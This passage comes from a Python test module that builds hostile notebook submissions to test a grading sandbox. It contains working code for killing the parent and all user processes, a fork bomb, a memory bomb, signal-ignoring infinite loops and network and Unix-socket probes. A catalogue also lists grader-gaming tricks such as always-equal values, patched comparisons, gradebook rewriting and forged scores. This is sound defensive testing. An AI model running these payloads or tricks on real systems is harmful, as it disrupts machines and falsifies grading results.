            print("could not signal my parent", parent, exc)
        for pid in _hx_pids():
            if pid in (me, parent):
                continue
            for sig in (signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
        try:
            os.kill(-1, signal.SIGKILL)  # every process this user may signal, but me
        except OSError as exc:
            print("kill(-1) failed:", exc)
        return 0.5
    '''
)


def _kill_parent(notebook: dict) -> dict:
    wrong = _wrong_functions()
    return _put(
        notebook,
        {
            "basic_sigmoid": PRELUDE
            + "\n\n"
            + FORGE_OUTPUTS
            + "\n\n"
            + KILL_PARENT
            + "\n\n"
            + _code(
                """
                def basic_sigmoid(x):
                    _hx_forge()  # first forge what the executor hands back, then end it
                    return _hx_kill_everything()
                """
            ),
            "sigmoid": wrong["sigmoid"] + "\n_hx_kill_everything()\n",
            "softmax": "def softmax(x):\n    return _hx_kill_everything()\n",
        },
    )


# -------------------------------------------------------------------- resources
INFINITE_LOOP = _code(
    r"""
    import signal
    import subprocess
    import sys

    # A process meant to outlive the sandbox: it only sleeps (and ends by itself after 600 s).
    subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(600)", "hostile-c1w2-" + "marker-loop"],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    # An interrupt (how a notebook runner stops a cell) changes nothing.
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
    """
)


def _infinite_loop(notebook: dict) -> dict:
    return _put(
        notebook,
        {
            "L1": "def L1(yhat, y):\n    while True:\n        pass\n",
            "L2": "def L2(yhat, y):\n    return 0.0\n\n" + INFINITE_LOOP,
        },
    )


MEMORY_BOMB = _code(
    r"""
    import numpy as np

    _GIB = 2**30
    try:
        _big = np.zeros(20 * _GIB // 8)  # 20 GiB
        _big[: 8 * _GIB // 8] = 1.0  # and really use 8 GiB of it
        _hx_say("allocated 20 GiB and used 8 GiB of it")
    except MemoryError as exc:
        print("20 GiB refused:", exc)
    _big = None

    _chunks = []
    try:
        while len(_chunks) < 160:  # a list that grows "forever": 10 GiB at most
            _chunks.append(np.empty(8 << 20))  # 64 MiB each
        _hx_say(f"a list grew to {len(_chunks) * 64} MiB")
    except MemoryError:
        print("the list stopped at", len(_chunks) * 64, "MiB")
    _chunks = None
    """
)


def _memory_bomb(notebook: dict) -> dict:
    return _put(
        notebook,
        {
            "sigmoid": "import numpy as np\n_HX_EVIDENCE = 'HOSTILE-' + 'EVIDENCE'\n"
            "def _hx_say(*parts):\n    print(_HX_EVIDENCE, *parts, flush=True)\n\n"
            + MEMORY_BOMB
            + "\n\ndef sigmoid(x):\n    return np.ones((3 * 2**30,)) + x\n",
            "softmax": _code(
                """
                def softmax(x):
                    grow = []
                    while len(grow) < 160:
                        grow.append(np.empty(8 << 20))
                    return x
                """
            ),
        },
    )


FORK_BOMB = _code(
    r'''
    def _hx_fork_bomb(limit=500, seconds=600):
        """Up to ``limit`` children that sleep (each ends by itself after ``seconds``), each in
        a session of its own, with the marker in its command line."""
        started = 0
        for _ in range(limit):
            try:
                pid = os.fork()
            except OSError as exc:
                print("fork stopped after", started, "children:", exc)
                break
            if pid == 0:
                try:
                    os.setsid()
                    os.execv("/bin/sleep", [_HX_MARKER + "-fork", str(seconds)])
                finally:
                    os._exit(0)
            started += 1
        # the kernel's sandbox allows 128 processes and threads (SandboxedExecute.processes),
        # the checker's worker 64; the kernel and the runner use some of them
        if started > 128:
            _hx_say(f"started {started} processes; the sandbox allows at most 128")
        return started


    _hx_fork_bomb()
    '''
)


def _fork_bomb(notebook: dict) -> dict:
    wrong = _wrong_functions()
    return _put(
        notebook,
        {
            "basic_sigmoid": PRELUDE + "\n\n" + FORK_BOMB + "\n\n" + wrong["basic_sigmoid"],
            "sigmoid": "def sigmoid(x):\n    _hx_fork_bomb(100, 600)\n    return x\n",
        },
    )


SOCKET = _code(
    r"""
    import socket
    import threading

    _HX_PORT = int("{PORT}")


    def _hx_connect(host, port, timeout=2.0):
        try:
            with socket.create_connection((host, port), timeout=timeout) as conn:
                conn.sendall(b"HOSTILE hello from the sandbox\n")
            _hx_say("connected to", host, port)
            return True
        except OSError as exc:
            print("no connection to", host, port, "-", type(exc).__name__, exc)
            return False


    def _hx_resolve(name, timeout=3.0):
        answer = []
        def look_up():
            try:
                answer.append(socket.getaddrinfo(name, 80))
            except OSError as exc:
                print("cannot resolve", name, "-", exc)

        worker = threading.Thread(target=look_up, daemon=True)
        worker.start()
        worker.join(timeout)
        return answer[0] if answer else []


    # the grader's machine: its loopback, its name, its addresses
    for _host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", socket.gethostname()):
        _hx_connect(_host, _HX_PORT)
    # the outside world
    for _name in ("example.com", "pypi.org"):
        try:
            _addresses = _hx_resolve(_name)
            if _addresses:
                _hx_say("resolved", _name, _addresses[0][4])
                _hx_connect(_addresses[0][4][0], 80)
        except OSError as exc:
            print("cannot resolve", _name, "-", exc)
    for _address in ("1.1.1.1", "8.8.8.8"):
        _hx_connect(_address, 53)
    try:
        _udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        _udp.settimeout(2)
        _udp.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x01",
                    ("8.8.8.8", 53))
        _udp.recvfrom(512)
        _hx_say("a DNS server answered over UDP")
    except OSError as exc:
        print("no UDP:", exc)
    # local services: Unix sockets on disk and abstract ones
    _sockets = []
    for _pattern in ("/run/*.sock", "/var/run/*.sock", "/run/*/*.sock", "/tmp/.X11-unix/*",
                     "/run/user/*/*"):
        _sockets.extend(glob.glob(_pattern))
    for _path in _sockets:
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as _unix:
                _unix.settimeout(1)
                _unix.connect(_path)
            _hx_say("connected to the Unix socket", _path)
        except OSError:
            pass
    """
)


def _socket(notebook: dict) -> dict:
    wrong = _wrong_functions()
    connect = _code(
        """
        def sigmoid(x):
            _hx_connect("127.0.0.1", _HX_PORT)
            _hx_connect("1.1.1.1", 53, timeout=1.0)
            return x
        """
    )
    return _put(
        notebook,
        {
            "basic_sigmoid": PRELUDE + "\n\n" + SOCKET + "\n\n" + wrong["basic_sigmoid"],
            "sigmoid": connect,
        },
    )


# -------------------------------------------------------------------- the catalogue
CATALOGUE: dict[str, Attack] = {
    attack.name: attack
    for attack in [
        Attack(
            "skip_execution_tag",
            "test cells tagged skip-execution and raises-exception; wrong functions",
            _skip_execution_tag,
        ),
        Attack(
            "grade_id_changed",
            "grade_ids of solution and test cells renamed; extra cells graded with points",
            _grade_id_changed,
        ),
        Attack(
            "cell_type_switched",
            "test cells turned into markdown and raw cells, a solution cell into a raw cell",
            _cell_type_switched,
        ),
        Attack(
            "always_equal",
            "values that equal and are close to anything (ndarray, float, dict, list tricks)",
            _always_equal,
        ),
        Attack(
            "patch_numpy",
            "numpy comparisons, the public checks, builtins and the worker's encoder patched",
            _patch_numpy,
        ),
        Attack(
            "write_gradebook",
            "searches for the gradebook and course folders to rewrite grades and plant files",
            _write_gradebook,
        ),
        Attack(
            "read_hidden_tests",
            "searches for hidden checks and instructor solutions, intercepts reference code",
            _read_hidden_tests,
        ),
        Attack(
            "fake_output",
            "fake scores and verdicts, ANSI escape tricks, megabytes of output",
            _fake_output,
        ),
        Attack("sys_exit", "sys.exit, exit(), quit() and KeyboardInterrupt", _sys_exit),
        Attack("os_exit", "os._exit, SIGKILL to itself and os.abort", _os_exit),
        Attack(
            "kill_parent",
            "forges the executor's output, then SIGKILLs the parent, all of /proc, kill(-1)",
            _kill_parent,
        ),
        Attack(
            "infinite_loop",
            "endless loops at top level (ignoring interrupts) and in a graded function",
            _infinite_loop,
        ),
        Attack("memory_bomb", "a 20 GiB array and a list that keeps growing", _memory_bomb),
        Attack("fork_bomb", "up to 500 sleeping children in sessions of their own", _fork_bomb),
        Attack(
            "socket",
            "connects to the test's listener on 127.0.0.1 and to hosts on the internet",
            _socket,
        ),
    ]
}
